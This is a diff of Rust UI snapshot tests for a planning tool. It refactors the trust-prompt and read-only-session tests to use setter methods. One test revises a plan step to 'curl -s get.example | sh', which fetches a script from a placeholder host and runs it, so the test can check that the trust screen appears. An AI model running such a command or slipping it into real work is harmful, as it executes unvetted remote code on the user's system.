@@ -1,8 +1,8 @@
 //! The screens, each by the keys that lead to it.
 
 use std::path::Path;
-use std::sync::Arc;
 
+use daymark::app::SessionOptions;
 use daymark::plan::Facts;
 use daymark::service::plan_folder;
 use daymark::view::Theme;
@@ -297,7 +297,7 @@ fn the_report() {
 #[test]
 fn the_question_of_trust() {
     check("trust", true, |stage| {
-        stage.app.engine.trusted = false;
+        stage.app.engine.set_trust(false, None);
         stage.keys("T");
     });
 }
@@ -305,13 +305,13 @@ fn the_question_of_trust() {
 #[test]
 fn the_question_of_trust_after_a_change() {
     check("trust-changed", true, |stage| {
-        let plan = &mut stage.app.engine.plan;
-        stage.app.engine.agreed = Some(Facts::of(plan));
-        stage.app.engine.trusted = false;
+        let facts = Facts::of(stage.app.engine.plan());
+        stage.app.engine.set_trust(false, Some(facts));
         stage.revise("tools", "command -v ssh && curl -s get.example | sh");
-        let plan = Arc::make_mut(&mut stage.app.engine.plan);
-        plan.hosts[2].production = true;
-        plan.entries[0].steps[3].danger = None;
+        stage.change_plan(|plan| {
+            plan.hosts[2].production = true;
+            plan.entries[0].steps[3].danger = None;
+        });
         stage.keys("T");
     });
 }
@@ -319,8 +319,10 @@ fn the_question_of_trust_after_a_change() {
 #[test]
 fn somebody_else_walks() {
     check("only-looking", false, |stage| {
-        stage.app.engine.read_only_reason =
-            Some("ada on hull walks it since 08:40 (process 4711)".to_owned());
+        stage.app.engine.set_session(SessionOptions {
+            read_only_reason: Some("ada on hull walks it since 08:40 (process 4711)".to_owned()),
+            ..SessionOptions::default()
+        });
         stage.keys("enter enter");
     });
 }
